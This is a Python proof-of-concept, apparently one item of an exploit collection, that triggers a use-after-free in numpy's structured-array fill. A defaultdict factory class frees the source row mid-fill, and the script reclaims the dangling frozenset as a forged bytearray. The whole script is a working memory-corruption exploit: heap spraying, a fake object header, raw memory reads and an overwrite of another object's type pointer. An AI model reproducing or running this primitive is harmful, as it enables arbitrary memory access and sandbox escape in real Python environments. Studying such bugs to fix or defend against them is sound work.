# source: numpy arraytypes.c.src VOID_setitem + PySequence_Fast sequence-protocol __getitem__; CPython defaultdict.__missing__ calls default_factory, here a script class whose __init__ (unrestricted) runs
# family: structured-row fill from a tuple; allowed 'return self.items[i]' reads collections.defaultdict(ScriptClass): the class's __init__ frees the row
# goal: dangling reference to a freed frozenset stored in the array, reclaimed as a fake bytearray: raw memory read and type-pointer write
import collections
import numpy as np

rows = []


class Lot:
    def __init__(self):
        if not rows:
            raise IndexError
        rows.clear()
        self.v = 1.0


class Basket:
    def __init__(self):
        self.items = collections.defaultdict(Lot)

    def __len__(self):
        return 1

    def __getitem__(self, i):
        return self.items[i]


class Box:
    pass


class Other:
    pass


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


def reclaim(res):
    fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
    spray = []
    for k in range(8):
        b = bytearray(215)
        b[16:16 + len(fake)] = fake
        spray.append(b)
    print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
    bx = Box()
    ot = Other()
    wb, wo = where(bx), where(ot)
    print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
    res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
    print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
    return spray


rows.append((Basket(), frozenset([2])))
table = np.array(rows, dtype=[("w", "O", (1,)), ("tag", "O")])
res = table[0]["tag"]
keep = reclaim(res)
